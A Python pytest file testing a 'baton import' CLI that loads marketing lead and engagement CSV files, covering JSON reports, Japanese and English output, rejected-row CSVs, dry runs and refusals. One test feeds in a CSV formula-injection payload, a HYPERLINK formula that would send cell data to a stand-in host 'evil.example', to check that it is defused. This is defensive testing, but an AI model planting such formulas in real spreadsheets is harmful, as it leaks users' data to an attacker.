"""The real ``baton import`` in subprocesses, on both databases: ``--json`` gives the counts,
the encoding, every merge and every rejection; the text output says the same in the
user's language; ``--rejected FILE`` writes a CSV Excel opens (read back here, every
character of a rejected value kept); ``--dry-run`` stores nothing, not even the record
of the run; a refused file or user exits 2 with a sentence and writes nothing.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from models.core.entities import Lead
from models.core.import_records import ImportMapping, ImportRun
from models.db.database import Database
from models.imports.fields import ImportKind
from tests.imports_data import (
    LEAD_HEADER,
    TOUCH_HEADER,
    count,
    dump,
    mapping_file,
    people,
    person,
    run,
    touch,
    write_csv,
)
from tests.test_cli import headless_env

REPO = Path(__file__).resolve().parent.parent
SAMPLES = REPO / "tests" / "data" / "imports"


def baton(
    db: Database, home: Path, *args: str, user: str = "marketing"
) -> subprocess.CompletedProcess[str]:
    url = db.url.render_as_string(hide_password=False)
    return subprocess.run(
        [sys.executable, "-m", "desktop", *args, "--db", url, "--user", f"{user}@example.jp"],
        cwd=REPO,
        env=headless_env(home),
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=300,
        check=False,
    )


def _rows() -> list[list[str]]:
    return [
        LEAD_HEADER,
        person(1, title="情報システム部\n部長"),  # lines 2-3
        person(2),
        person(3, id="L000001", email=""),  # row 2 again
        person(4, email="bad@"),  # row 5, line 6
        person(5, first="太\x00郎"),  # a NUL, kept in the rejected value
        person(6, at="2026-02-30 10:00"),
    ]


@pytest.fixture
def files(db: Database, tmp_path: Path) -> tuple[Path, Path]:
    people(db)
    data = write_csv(tmp_path / "リード一覧.csv", _rows(), encoding="cp932")
    return data, mapping_file(tmp_path / "mapping.json")


def _json(done: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    assert done.returncode == 0, done.stderr
    result: dict[str, Any] = json.loads(done.stdout)
    return result


def test_json_gives_the_counts_the_encoding_the_merges_and_the_rejections(
    db: Database, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    data, mapping = files
    report = _json(
        baton(db, tmp_path, "import", "leads", str(data), "--mapping", str(mapping), "--json")
    )
    assert {k: report[k] for k in ("file", "kind", "source", "encoding", "dry_run")} == {
        "file": "リード一覧.csv",
        "kind": "leads",
        "source": "testtool",
        "encoding": "CP932 (Shift_JIS)",
        "dry_run": False,
    }
    counts = ("read", "landed", "merged", "unchanged", "touches_added", "rejected")
    assert [report[k] for k in counts] == [6, 2, 1, 0, 3, 3]
    assert report["rejected_by_reason"] == {
        "import.value.email": 1,
        "import.row.bad_character": 1,
        "import.value.date_impossible": 1,
    }
    (merge,) = report["merges"]
    assert {k: merge[k] for k in ("row", "rule", "same_as_row")} == {
        "row": 4,
        "rule": "external_id",
        "same_as_row": 2,
    }
    assert [(r["row"], r["line"], r["column"], r["reason"]) for r in report["rejections"]] == [
        (5, 6, "メールアドレス", "import.value.email"),
        (6, 7, "名", "import.row.bad_character"),
        (7, 8, "コンバージョン日時", "import.value.date_impossible"),
    ]
    assert report["rejections"][1]["value"] == "太\x00郎"
    assert report["rejections"][0]["message"] == "Email address “bad@” is not an email address."
    with db.read() as session:
        assert count(db, Lead) == 2
        (done,) = session.scalars(select(ImportRun)).all()
        assert (done.status, done.rows_read, done.landed, done.merged, done.rejected) == (
            "done",
            6,
            2,
            1,
            3,
        )
        assert done.encoding == "CP932 (Shift_JIS)"
        # A user's mapping is remembered for the next file from the same source.
        kept = session.scalars(select(ImportMapping)).one()
        assert (kept.source, kept.kind) == ("testtool", "leads")
    # ...so the same file comes in without --mapping, and changes nothing.
    again = _json(baton(db, tmp_path, "import", "leads", str(data), "--json"))
    assert [again[k] for k in ("source", "landed", "merged", "unchanged")] == [
        "testtool",
        0,
        3,
        3,
    ]


def _with_rejected(
    db: Database, tmp_path: Path, files: tuple[Path, Path], lang: str
) -> tuple[list[str], bytes, list[list[str]]]:
    """``baton import ... --rejected FILE --lang LANG``: its output lines, the file's bytes
    and the file read back."""
    data, mapping = files
    rejected = tmp_path / "rejected.csv"
    done = baton(
        db, tmp_path, "import", "leads", str(data), "--mapping", str(mapping),
        "--rejected", str(rejected), "--lang", lang,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with rejected.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    return done.stdout.splitlines(), rejected.read_bytes(), rows


def test_the_text_output_and_the_rejected_csv_in_japanese(
    db: Database, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    out, raw, rows = _with_rejected(db, tmp_path, files, "ja")
    assert out[0] == "リード一覧.csv: 6 行を読み込みました(testtool、文字コード CP932 (Shift_JIS))"
    assert "新しいリード: 2" in out
    assert (
        "5 行目(6 行目の物理行)、列「メールアドレス」: "
        "メールアドレス「bad@」はメールアドレスではありません。"
    ) in out
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with its byte-order mark
    assert rows[0] == ["行", "物理行", "列", "値", "理由"]
    assert [row[:4] for row in rows[1:]] == [
        ["5", "6", "メールアドレス", "bad@"],
        ["6", "7", "名", "太\x00郎"],  # every character of the row kept
        ["7", "8", "コンバージョン日時", "2026-02-30 10:00"],
    ]
    assert rows[1][4] == "メールアドレス「bad@」はメールアドレスではありません。"


def test_the_text_output_and_the_rejected_csv_in_english(
    db: Database, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    out, _raw, rows = _with_rejected(db, tmp_path, files, "en")
    assert out[:2] == [
        "リード一覧.csv: 6 rows read (testtool, encoding CP932 (Shift_JIS))",
        "New leads: 2",
    ]
    assert (
        "Row 5 (line 6), column “メールアドレス”: Email address “bad@” is not an email address."
    ) in out
    assert rows[0] == ["Row", "Line", "Column", "Value", "Reason"]
    assert rows[3] == [
        "7",
        "8",
        "コンバージョン日時",
        "2026-02-30 10:00",
        "Engagement date “2026-02-30 10:00” is a day that does not exist.",
    ]


def test_a_dry_run_stores_nothing_not_even_the_run(
    db: Database, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    data, mapping = files
    before = dump(db)
    report = _json(
        baton(
            db,
            tmp_path,
            "import",
            "leads",
            str(data),
            "--mapping",
            str(mapping),
            "--dry-run",
            "--json",
        )
    )
    assert dump(db) == before
    assert report["dry_run"] is True
    assert [report[k] for k in ("read", "landed", "merged", "rejected")] == [6, 2, 1, 3]


def test_a_dry_run_in_the_domain_stores_nothing_and_counts_as_the_real_run(
    db: Database, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    data, _mapping = files
    marketing = people(db).marketing
    before = dump(db)
    dry = run(db, marketing, data, dry_run=True)
    assert dump(db) == before
    assert dry.run_id is None
    real = run(db, marketing, data)
    fields = ("rows_read", "landed", "merged", "unchanged", "touches_added", "rejected")
    assert [getattr(dry, f) for f in fields] == [getattr(real, f) for f in fields]
    assert [(m.row, m.rule, m.same_as_row) for m in dry.merges] == [
        (m.row, m.rule, m.same_as_row) for m in real.merges
    ]


def test_refusals_exit_2_with_a_sentence_and_write_nothing(
    db: Database, tmp_path: Path, files: tuple[Path, Path]
) -> None:
    data, mapping = files
    before = dump(db)
    rep = baton(
        db,
        tmp_path,
        "import",
        "leads",
        str(data),
        "--mapping",
        str(mapping),
        "--lang",
        "en",
        user="rep",
    )
    assert rep.returncode == 2, rep.stderr
    assert "Traceback" not in rep.stderr and "rep" in rep.stderr
    png = tmp_path / "photo.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(200))
    binary = baton(db, tmp_path, "import", "leads", str(png), "--lang", "en")
    assert binary.returncode == 2
    assert "photo.csv is not a CSV or XLSX export (it holds binary data)" in binary.stderr
    broken = tmp_path / "broken.json"
    broken.write_text("{", encoding="utf-8")
    unreadable = baton(
        db, tmp_path, "import", "leads", str(data), "--mapping", str(broken), "--lang", "en"
    )
    assert unreadable.returncode == 2
    assert "Cannot read the mapping file broken.json: expected JSON." in unreadable.stderr
    nowhere = tmp_path / "no-such-folder" / "rejected.csv"
    refused = baton(
        db, tmp_path, "import", "leads", str(data), "--mapping", str(mapping),
        "--rejected", str(nowhere), "--lang", "en",
    )  # fmt: skip
    assert refused.returncode == 2
    assert f"Cannot write {nowhere}: the folder {nowhere.parent} does not exist." in (
        refused.stderr
    )
    assert dump(db) == before  # refused before the import, not after it landed


def test_rejected_cells_never_run_as_formulas_and_reasons_are_counted_per_column(
    db: Database, tmp_path: Path
) -> None:
    people(db)
    formula = '=HYPERLINK("http://evil.example/"&A1,"click")'
    data = write_csv(
        tmp_path / "engagements.csv",
        [
            TOUCH_HEADER,
            touch(email=formula, touch_id="t1", kind="資料請求", occurred_at="2026-11-01"),
            touch(email="@SUM(1+1)", touch_id="t2", kind="資料請求", occurred_at="2026-11-01"),
            touch(email="a@example.jp", touch_id="t3", kind="資料請求", occurred_at="2026-11-01",
                  content="x" * 301),
            touch(email="a@example.jp", touch_id="t4", kind="資料請求", occurred_at="2026-11-01",
                  campaign="y" * 201),
        ],
    )  # fmt: skip
    rejected = tmp_path / "rejected.csv"
    done = baton(
        db, tmp_path, "import", "touches", str(data), "--preset", "generic",
        "--rejected", str(rejected), "--lang", "en",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    with rejected.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    values = {row[0]: row[3] for row in rows[1:]}
    assert values["2"] == "'" + formula and values["3"] == "'@SUM(1+1)"  # text in Excel
    summary = [line for line in done.stdout.splitlines() if " × like " in line]
    # One line per reason and column, the first row as the example: content and campaign
    # too long each in its own way, not both counted under the first one's words.
    assert summary == [
        f"  2 × like Row 2, column “email”: Email address “{formula}” is not an email address.",
        "  1 × like Row 4, column “content”: Content is 301 characters long; at most 300 fit.",
        "  1 × like Row 5, column “campaign”: Campaign is 201 characters long; at most 200 fit.",
    ]


def test_a_preset_and_a_sheet_from_the_command_line(db: Database, tmp_path: Path) -> None:
    people(db)
    hubspot = _json(
        baton(
            db,
            tmp_path,
            "import",
            "leads",
            str(SAMPLES / "hubspot_contacts.csv"),
            "--preset",
            "hubspot",
            "--json",
        )
    )
    assert (hubspot["preset"], hubspot["encoding"], hubspot["landed"]) == (
        "hubspot",
        "UTF-8 (BOM)",
        10,
    )
    assert "Number of Sessions" in hubspot["computed_columns_ignored"]
    marketo = _json(
        baton(db, tmp_path, "import", "leads", str(SAMPLES / "marketo_leads.xlsx"), "--json")
    )
    assert marketo["sheet"] is not None and marketo["encoding"] is None
    touches = _json(
        baton(db, tmp_path, "import", "touches", str(SAMPLES / "generic_touches.csv"), "--json")
    )
    assert touches["read"] == touches["landed"] + touches["unchanged"] + touches["rejected"]
    assert touches["kind"] == ImportKind.TOUCHES.value
